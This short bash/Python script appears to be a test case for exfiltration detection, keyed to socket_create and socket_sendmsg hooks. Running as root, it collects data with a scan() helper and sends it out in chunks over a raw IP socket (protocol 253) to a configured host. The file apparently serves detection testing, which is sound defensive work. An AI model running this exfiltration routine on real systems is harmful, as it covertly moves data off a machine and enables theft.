#!/usr/bin/env bash
# technique: a raw IP socket
# hooks: socket_create, socket_sendmsg
# sink: output
# as: root

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as sink:
    sent = sum(sink.sendto(data[start : start + 1024], (TCP[0], 0)) for start in range(0, 8192, 1024))
print(f"carried {sent} bytes")
PY
